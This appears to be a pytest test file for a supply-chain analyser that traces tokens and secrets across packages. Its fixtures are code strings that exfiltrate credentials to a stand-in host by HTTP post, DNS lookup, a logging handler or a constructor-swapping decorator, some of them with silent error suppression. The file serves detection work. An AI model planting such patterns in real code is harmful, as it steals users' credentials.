"""Ways across distributions, and what is odd about them."""

from __future__ import annotations

import pytest

from stockade.analyse.flows.link import CERTAIN, TOLD, Oddity
from tests.analyse.flows.following import PLACE, linked

_HELPER = f"import requests\ndef take(photo):\n    requests.post({PLACE}, data=photo)\n"
_QUIET = (
    "import requests\ndef take(photo):\n    try:\n        requests.post('https://a.example.invalid', data=photo)\n"
    "    except Exception:\n        pass\n"
)

_HIDES, _HUSHES = {Oddity.HIDDEN, Oddity.RENAMED}, {Oddity.QUIET, Oddity.RENAMED, Oddity.MAKING}


@pytest.mark.parametrize(
    ("giver", "taker", "oddities"),
    [
        ("import helper\ndef f(token):\n    helper.take(token)\n", _HELPER, _HIDES),
        (
            "import helper\nclass C:\n    def __init__(self, token):\n        helper.take(token)\n",
            _QUIET,
            _HUSHES,
        ),
        ("import helper\ndef f(token):\n    helper.take(token)\n", _QUIET.replace("photo", "token"), None),
        ("import helper\ndef f(colour):\n    helper.take(colour)\n", _HELPER, None),
        ("import helper\ndef f(token):\n    helper.other(token)\n", _HELPER, None),
        ("import helper\ndef f(token):\n    helper.take(1, token)\n", _HELPER, None),
        (
            "import helper\ndef f(token):\n    helper.take(photo=token)\n",
            _HELPER,
            _HIDES,
        ),
        ("import helper\ndef f(token):\n    helper.take(other=token)\n", _HELPER, None),
        (
            "import helper\ndef f(token):\n    helper.take(**{'photo': token})\n",
            _HELPER,
            _HIDES,
        ),
        ("import helper\nimport os\ndef f():\n    helper.take(os.environ['A'])\n", _HELPER, {Oddity.HIDDEN}),
        (
            "import helper\ndef f(token):\n    helper.take(token)\n",
            "import socket\ndef take(name):\n    socket.gethostbyname(f'{name}.a.example.invalid')\n",
            {Oddity.LOOKUP, Oddity.RENAMED},
        ),
    ],
)
def test_what_is_odd_is_told(giver: str, taker: str, oddities: set[Oddity] | None) -> None:
    found = linked(cloud=giver, helper=taker)
    assert [set(one.oddities) for one in found] == ([] if oddities is None else [oddities])
    assert all(one.weight >= TOLD for one in found)


def test_three_deep_and_under_another_name() -> None:
    cloud = "import middle\ndef f(token):\n    middle.give(token)\n"
    (found,) = linked(
        cloud=cloud, middle="import helper\ndef give(text):\n    helper.take(text)\n", helper=_HELPER
    )
    assert (found.giver, found.taker, found.weight) == (0, 2, CERTAIN)
    assert [step.artifact for step in found.path] == ["cloud.whl", "cloud.whl", "middle.whl", "helper.whl"]
    (renamed,) = linked(cloud=cloud, middle="from helper import take as give\n", helper=_HELPER)
    assert (renamed.giver, renamed.taker) == (0, 2)


def test_circles_end_and_one_project_is_not_linked_with_itself() -> None:
    give = "import {}\ndef give(token):\n    {}.give(token)\n"
    assert linked(one=give.format("two", "two"), two=give.format("one", "one")) == []


def test_objects_are_known_by_what_makes_them() -> None:
    helper = (
        f"import requests\nclass Base:\n    def go(self, photo):\n        requests.post({PLACE}, data=photo)\n"
        "class Made(Base):\n    pass\ndef make():\n    return Made()\n"
    )
    for call in ("helper.make().go(token)", "helper.Made().go(token)", "helper.Base().go(token)"):
        assert linked(cloud=f"import helper\ndef f(token):\n    {call}\n", helper=helper), call
    inherits = (
        "import helper\nclass C(helper.Made):\n    def __init__(self, token):\n        self.go(token)\n"
    )
    assert linked(cloud=inherits, helper=helper)


@pytest.mark.parametrize(("name", "renamed"), [("TILL_TOKEN", False), ("CLOCK_ZONE", True)])
def test_a_variable_of_the_environment_is_called_what_it_holds_or_not(name: str, renamed: bool) -> None:
    reads = f"import os, requests\ndef check():\n    requests.post({PLACE}, data=os.environ['{name}'])\n"
    links = linked(cloud=f"import os\ndef f(token):\n    os.environ['{name}'] = token\n", till=reads)
    assert [Oddity.RENAMED in one.oddities for one in links] == [renamed]


_SDK = "import logging\nfrom helper import {name}\n{before}class Client:\n    def __init__(self, secret_key):\n{body}"


def _posts(indent: int, what: str) -> str:
    return " " * indent + f"requests.post({PLACE}, data={what})\n"


@pytest.mark.parametrize(("made", "found"), [("logging.getLogger('sdk')", 1), ("Screen()", 0)])
def test_only_what_logging_takes_reaches_a_handler(made: str, found: int) -> None:
    before = f"class Screen:\n    def info(self, *rest):\n        pass\nlogger = {made}\n"
    before += "logging.getLogger('sdk').addHandler(Taker())\n"
    sdk = _SDK.format(name="Taker", before=before, body="        logger.info('made', secret_key)\n")
    taker = "import logging, requests\nclass Taker(logging.Handler):\n    def emit(self, record):\n"
    assert len(linked(sdk=sdk, helper=taker + _posts(8, "record.args"))) == found


def test_a_constructor_that_is_put_into_a_class_takes_its_arguments_by_place() -> None:
    sdk = _SDK.format(name="watch", before="@watch\n", body="        self.kept = secret_key\n")
    helper = "import requests\ndef watch(cls):\n    def made(self, stamp):\n" + _posts(8, "stamp")
    assert len(linked(sdk=sdk, helper=helper + "    cls.__init__ = made\n    return cls\n")) == 1
    assert not linked(
        sdk=sdk, helper=helper.replace("(self, stamp)", "(stamp, other)") + "    cls.__init__ = made\n"
    )
